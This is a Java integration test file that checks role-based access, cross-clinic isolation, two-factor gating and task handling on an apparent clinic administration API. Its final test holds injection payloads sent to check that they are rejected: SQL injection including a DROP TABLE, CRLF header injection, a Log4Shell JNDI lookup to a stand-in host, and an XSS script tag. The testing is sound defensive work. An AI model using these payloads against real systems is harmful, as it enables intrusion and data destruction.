package ca.vitaravox.server.endtoend;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import ca.vitaravox.ports.access.Role;
import ca.vitaravox.ports.access.User;
import ca.vitaravox.ports.clinic.ClinicId;
import ca.vitaravox.ports.task.Task;
import ca.vitaravox.ports.task.TaskKind;
import ca.vitaravox.server.access.AccessTable;
import ca.vitaravox.server.access.Rule;
import ca.vitaravox.server.testing.Admin;
import ca.vitaravox.server.testing.OpenApi;
import ca.vitaravox.server.testing.TestClinic;
import ca.vitaravox.server.testing.TestServer;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Collectors;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/** Each role at each endpoint, in its own clinic and in another. */
class RolesIT {
    private static final Map<Role, String> TOKENS = new EnumMap<>(Role.class);
    /** A message that is not there. */
    private static final String TASK = id("message:none");

    private static ClinicId ours;
    private static ClinicId theirs;
    private static User theirStaff;

    @BeforeAll
    static void everybodyLogsIn() {
        ours = newClinic();
        theirs = newClinic();
        theirStaff = Admin.user(Role.CLINIC_STAFF, theirs);
        for (Role role : Role.values()) {
            TOKENS.put(role, Admin.fullToken(role.isEverywhere() ? Admin.user(role) : Admin.user(role, ours)));
        }
    }

    private static String id(String task) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(task.getBytes(StandardCharsets.UTF_8));
    }

    private static ClinicId newClinic() {
        return new ClinicId(TestClinic.open(
                        TestServer.running().database(),
                        "adm" + java.util.UUID.randomUUID().toString().substring(0, 8),
                        1)
                .id());
    }

    /** What makes a request get as far as its handler, whatever that says to it. */
    private static HttpResponse<String> ask(Rule rule, ClinicId clinic, Map<String, String> headers) {
        String path = rule.path()
                .replace("{clinic}", clinic.value())
                .replace("{user}", "nobody")
                .replace("{session}", "none")
                .replace("{task}", TASK)
                .replace("{entry}", "none")
                .replace("{offer}", "none")
                .replace("{call}", "none")
                .replace("{provider}", "7")
                .replace("{type}", "checkup");
        if (rule.needs() == Rule.Needs.ASKED_CLINIC) {
            path += "?patient=1&clinic=" + clinic;
        }
        boolean body = !Set.of("GET", "DELETE").contains(rule.method().name());
        return Admin.send(rule.method().name(), path, body ? Map.of() : null, headers);
    }

    /** Those that end what they are asked with. */
    private static List<Rule> walked() {
        return AccessTable.RULES.stream()
                .filter(rule -> !rule.path().endsWith("/logout"))
                .toList();
    }

    @Test
    void each_role_gets_where_the_table_says_and_nowhere_else() {
        for (Rule rule : walked()) {
            for (Role role : Role.values()) {
                int status = ask(rule, ours, Admin.bearer(TOKENS.get(role))).statusCode();
                String what = role + " " + rule.route() + " → " + status;
                if (rule.roles().contains(role)) {
                    assertTrue(status != 403 && status < 500, what);
                    assertTrue(status != 401 || rule.needs() == Rule.Needs.NOTHING, what);
                } else {
                    assertEquals(403, status, what);
                }
            }
        }
    }

    @Test
    void a_clinic_that_is_not_theirs_is_not_there() {
        for (Rule rule : walked()) {
            if (!rule.path().contains("{clinic}") && rule.needs() != Rule.Needs.ASKED_CLINIC) {
                continue;
            }
            for (Role role : rule.roles()) {
                int mine = ask(rule, ours, Admin.bearer(TOKENS.get(role))).statusCode();
                HttpResponse<String> other = ask(rule, theirs, Admin.bearer(TOKENS.get(role)));
                HttpResponse<String> none = ask(rule, new ClinicId("nowhere"), Admin.bearer(TOKENS.get(role)));
                assertEquals(404, none.statusCode(), role + " " + rule.route());
                assertTrue(mine < 500 && mine != 401 && mine != 403, role + " " + rule.route() + " → " + mine);
                assertEquals(role.isEverywhere() ? mine : 404, other.statusCode(), role + " " + rule.route());
                if (!role.isEverywhere()) {
                    assertEquals(none.body(), other.body());
                }
            }
        }
    }

    @Test
    void without_a_session_every_door_but_two_is_closed() {
        for (Rule rule : AccessTable.RULES) {
            if (rule.needs() != Rule.Needs.NOTHING) {
                assertEquals(401, ask(rule, ours, Map.of()).statusCode(), rule.route());
                assertEquals(401, ask(rule, ours, Admin.bearer("nonsense")).statusCode(), rule.route());
                assertEquals(
                        401,
                        ask(rule, ours, Map.of("Authorization", "Basic YTpi")).statusCode(),
                        rule.route());
            }
        }
    }

    @Test
    void before_the_second_factor_is_set_up_only_that_can_be_done() {
        String token = Admin.read(Admin.login(Admin.user(Role.PLATFORM_ADMIN), Admin.PASSWORD))
                .get("accessToken")
                .asText();
        for (Rule rule : walked()) {
            HttpResponse<String> answer = ask(rule, ours, Admin.bearer(token));
            if (rule.needsFullSession()) {
                assertEquals(403, answer.statusCode(), rule.route());
                assertEquals(
                        "SECOND_FACTOR_SETUP_NEEDED",
                        Admin.read(answer).get("code").asText());
            } else {
                assertTrue(answer.statusCode() != 403, rule.route());
            }
        }
    }

    @Test
    void a_manager_sees_only_their_own_clinics_and_staff() {
        String manager = TOKENS.get(Role.CLINIC_MANAGER);
        User staff = Admin.user(Role.CLINIC_STAFF, ours);

        String clinics = Admin.send("GET", "/api/admin/clinics?limit=200", null, Admin.bearer(manager))
                .body();
        String users = Admin.send("GET", "/api/admin/users?limit=200", null, Admin.bearer(manager))
                .body();

        assertTrue(clinics.contains(ours.value()) && !clinics.contains(theirs.value()));
        assertTrue(users.contains(staff.id().value()));
        assertTrue(!users.contains(theirStaff.id().value()));
        assertEquals(
                404,
                Admin.send("GET", "/api/admin/users/" + theirStaff.id(), null, Admin.bearer(manager))
                        .statusCode());
    }

    @Test
    void whoever_sees_tasks_is_in_the_clinics_trail() {
        String before = TestServer.running().rows(ours.value());
        Admin.send("GET", "/api/admin/clinics/" + ours + "/tasks", null, Admin.bearer(TOKENS.get(Role.CLINIC_STAFF)));

        assertTrue(!before.equals(TestServer.running().rows(ours.value())));
    }

    @Test
    void a_task_is_seen_until_somebody_says_it_is_done() {
        String staff = TOKENS.get(Role.CLINIC_STAFF);
        String tasks = "/api/admin/clinics/" + ours + "/tasks";
        TestServer.running()
                .database()
                .taskBook()
                .add(ours, new Task(TaskKind.HALF_MOVED, "slot-1", Optional.empty(), Optional.empty(), Instant.EPOCH));
        assertEquals(
                "slot-1",
                Admin.read(Admin.send("GET", tasks, null, Admin.bearer(staff)))
                        .at("/items/0/about")
                        .asText());

        String task = tasks + "/" + id("half_moved:slot-1");
        assertEquals(
                200,
                Admin.send("POST", task + "/taken", null, Admin.bearer(staff)).statusCode());
        String first =
                Admin.send("POST", task + "/done", null, Admin.bearer(staff)).body();
        assertTrue(Admin.read(Admin.send("GET", tasks + "?state=done", null, Admin.bearer(staff)))
                .at("/items/0/done/by")
                .isTextual());
        String manager = TOKENS.get(Role.CLINIC_MANAGER);
        assertEquals(
                first,
                Admin.send("POST", task + "/done", null, Admin.bearer(manager)).body());
        assertEquals(
                404,
                Admin.send("POST", task + "/taken", null, Admin.bearer(manager)).statusCode());

        assertFalse(Admin.send("GET", tasks, null, Admin.bearer(staff)).body().contains("slot-1"));
        assertEquals(
                404,
                Admin.send("POST", tasks + "/" + id("nonsense:slot-1") + "/done", null, Admin.bearer(staff))
                        .statusCode());
    }

    @Test
    void every_route_of_the_server_but_pages_is_in_openapi_yaml_and_nothing_else_is() {
        Set<String> described = OpenApi.operations().stream()
                .map(OpenApi.Operation::route)
                .collect(Collectors.toCollection(TreeSet::new));
        Set<String> programs = new TreeSet<>(TestServer.running().routes());
        AccessTable.PAGES.forEach(page -> programs.remove(page.route()));
        programs.removeIf(route -> route.startsWith("GET /assets/"));
        assertEquals(programs, described);
    }

    @Test
    void texts_made_to_break_queries_or_headers_break_nothing() {
        String admin = TOKENS.get(Role.PLATFORM_ADMIN);
        List<String> attacks = new ArrayList<>(List.of(
                "' OR '1'='1",
                "'; DROP TABLE users; --",
                "\" OR \"\"=\"",
                "%27%20OR%201=1--",
                "x\r\nSet-Cookie: stolen=1",
                "${jndi:ldap://x.example/a}",
                "<script>alert(1)</script>",
                "\u0000"));
        for (String attack : attacks) {
            for (String field : List.of("email", "name", "role")) {
                Map<String, Object> body = new java.util.HashMap<>(Map.of(
                        "email", "new" + attack.hashCode() + "@clinic.test", "name", "N", "role", "platform_admin"));
                body.put(field, attack);
                HttpResponse<String> answer = Admin.send("POST", "/api/admin/users", body, Admin.bearer(admin));
                assertTrue(
                        answer.statusCode() == 422 || field.equals("name") && answer.statusCode() == 201,
                        field + "=" + attack + " → " + answer.statusCode() + answer.body());
                assertTrue(answer.headers().firstValue("Set-Cookie").isEmpty());
            }
            Map<String, Object> clinics =
                    Map.of("email", "x@clinic.test", "name", "N", "role", "clinic_staff", "clinics", List.of(attack));
            assertEquals(
                    422,
                    Admin.send("POST", "/api/admin/users", clinics, Admin.bearer(admin))
                            .statusCode());
            String encoded = java.net.URLEncoder.encode(attack, java.nio.charset.StandardCharsets.UTF_8);
            for (String path : List.of("/api/admin/users/", "/api/admin/clinics/")) {
                int status = Admin.send("GET", path + encoded.replace("+", "%20"), null, Admin.bearer(admin))
                        .statusCode();
                assertTrue(status == 404 || status == 400, path + attack + " → " + status);
            }
            for (String query : List.of("after", "limit")) {
                assertEquals(
                        400,
                        Admin.send("GET", "/api/admin/users?" + query + "=" + encoded, null, Admin.bearer(admin))
                                .statusCode());
            }
            int login = Admin.send("POST", "/api/auth/login", Map.of("email", attack, "password", attack), Map.of())
                    .statusCode();
            assertTrue(login == 422 || login == 401, attack + " → " + login);
            int refresh = Admin.send("POST", "/api/auth/refresh", Map.of("refreshToken", attack), Map.of())
                    .statusCode();
            assertEquals(401, refresh);
        }
    }
}
